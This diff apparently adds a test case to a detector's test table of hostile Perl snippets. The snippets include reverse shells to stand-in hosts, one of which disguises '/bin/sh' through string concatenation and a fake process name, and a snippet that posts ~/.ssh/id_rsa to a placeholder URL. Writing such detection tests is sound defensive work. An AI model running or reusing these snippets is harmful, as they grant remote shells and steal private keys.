@@ -50,6 +50,10 @@ test.each([
     `use IO::Socket::INET; my %o = (PeerAddr => '203.0.113.7', PeerPort => 443);\nmy $s = IO::Socket::INET->new(%o); while (my $l = <$s>) { print $s qx{$l} }`,
   ],
   [
+    "a program that is connected, whatever its name",
+    `use Socket; socket(my $s, PF_INET, SOCK_STREAM, 6); connect($s, sockaddr_in(443, inet_aton('a.invalid')));\nopen(STDIN, '>&', $s); open(STDOUT, '>&', $s); my $v = join '/', '', 'bin', 's' . 'h'; exec { $v } 'log', '-i';`,
+  ],
+  [
     "a key that is sent",
     `my $p = join '/', $ENV{HOME}, '.s' . 'sh', 'id' . '_rsa'; open my $f, '<', $p; my $k = <$f>;\nHTTP::Tiny->new->post('${URL}', { content => $k });`,
   ],
